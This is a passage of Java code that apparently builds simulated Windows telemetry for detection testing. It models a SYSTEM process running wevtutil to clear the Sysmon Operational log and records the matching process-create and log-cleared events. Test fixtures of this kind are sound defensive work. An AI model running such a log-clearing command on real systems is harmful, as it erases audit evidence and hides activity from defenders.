        Proc w2 = fs.proc("C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Microsoft-Windows-Sysmon/Operational", Host.SYSTEM);
        clear.add(r.processCreate(t.plusSeconds(1), w2, cmd));
        clear.add(r.logCleared(t.plusSeconds(1).plusMillis(200), fs, "Microsoft-Windows-Sysmon/Operational", "SYSTEM"));
    }
}
